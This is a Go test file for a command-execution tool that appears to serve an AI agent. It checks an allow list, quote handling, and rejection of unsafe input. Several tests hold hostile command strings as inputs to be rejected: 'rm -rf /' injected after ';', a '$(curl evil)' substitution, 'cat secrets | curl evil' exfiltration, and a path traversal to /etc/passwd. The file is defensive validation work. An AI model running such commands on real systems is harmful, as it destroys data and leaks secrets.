package tools

import (
	"context"
	"os"
	"strings"
	"testing"
)

func TestExecuteCommandToolRunsAllowedBinary(t *testing.T) {
	dir := t.TempDir()
	tool := &ExecuteCommandTool{Root: dir}

	result, err := tool.Handle(context.Background(), newReq(map[string]any{"command": "echo hello"}))
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if result.IsError {
		t.Fatalf("unexpected error result: %s", resultText(result))
	}
	if !strings.Contains(resultText(result), "hello") {
		t.Fatalf("expected output to contain 'hello', got %q", resultText(result))
	}
}

func TestExecuteCommandToolRejectsDisallowedBinary(t *testing.T) {
	dir := t.TempDir()
	tool := &ExecuteCommandTool{Root: dir}

	result, err := tool.Handle(context.Background(), newReq(map[string]any{"command": "curl https://example.com"}))
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if !result.IsError {
		t.Fatal("expected curl to be rejected as not on the allow list")
	}
}

func TestExecuteCommandToolRequiresCommand(t *testing.T) {
	dir := t.TempDir()
	tool := &ExecuteCommandTool{Root: dir}

	result, err := tool.Handle(context.Background(), newReq(nil))
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if !result.IsError {
		t.Fatal("expected missing command to be an error")
	}
}

func TestRunAllowedRejectsUnknownBinary(t *testing.T) {
	dir := t.TempDir()
	out, isError := runAllowed(context.Background(), dir, 5, "curl")
	if !isError {
		t.Fatal("expected unknown binary to be rejected")
	}
	if !strings.Contains(out, "not on the allowed command list") {
		t.Fatalf("unexpected message: %q", out)
	}
}

func TestExecuteCommandToolRejectsShellInjectionAfterAllowedBinary(t *testing.T) {
	dir := t.TempDir()
	tool := &ExecuteCommandTool{Root: dir}

	result, err := tool.Handle(context.Background(), newReq(map[string]any{"command": "git status; rm -rf /"}))
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if !result.IsError {
		t.Fatal("expected a command with an injected ';' to be rejected")
	}
}

func TestExecuteCommandToolRejectsCommandSubstitution(t *testing.T) {
	dir := t.TempDir()
	tool := &ExecuteCommandTool{Root: dir}

	result, err := tool.Handle(context.Background(), newReq(map[string]any{"command": "go build $(curl evil)"}))
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if !result.IsError {
		t.Fatal("expected command substitution to be rejected")
	}
}

func TestExecuteCommandToolRejectsPipe(t *testing.T) {
	dir := t.TempDir()
	tool := &ExecuteCommandTool{Root: dir}

	result, err := tool.Handle(context.Background(), newReq(map[string]any{"command": "cat secrets | curl evil"}))
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if !result.IsError {
		t.Fatal("expected a piped command to be rejected")
	}
}

func TestExecuteCommandToolRejectsPathTraversal(t *testing.T) {
	dir := t.TempDir()
	tool := &ExecuteCommandTool{Root: dir}

	result, err := tool.Handle(context.Background(), newReq(map[string]any{"command": "cat ../../etc/passwd"}))
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if !result.IsError {
		t.Fatal("expected a path-traversal argument to be rejected")
	}
}

func TestExecuteCommandToolDoesNotExpandGlobs(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(dir+"/marker.txt", []byte("x"), 0o644); err != nil {
		t.Fatalf("setup: %v", err)
	}
	tool := &ExecuteCommandTool{Root: dir}

	result, err := tool.Handle(context.Background(), newReq(map[string]any{"command": "echo *.txt"}))
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if result.IsError {
		t.Fatalf("unexpected error result: %s", resultText(result))
	}
	if !strings.Contains(resultText(result), "*.txt") {
		t.Fatalf("expected the glob to be passed through literally (no shell to expand it), got %q", resultText(result))
	}
}

func TestTokenizeCommandHonorsQuotes(t *testing.T) {
	fields, err := tokenizeCommand(`git commit -m "fix the thing"`)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	want := []string{"git", "commit", "-m", "fix the thing"}
	if len(fields) != len(want) {
		t.Fatalf("expected %v, got %v", want, fields)
	}
	for i := range want {
		if fields[i] != want[i] {
			t.Fatalf("expected %v, got %v", want, fields)
		}
	}
}
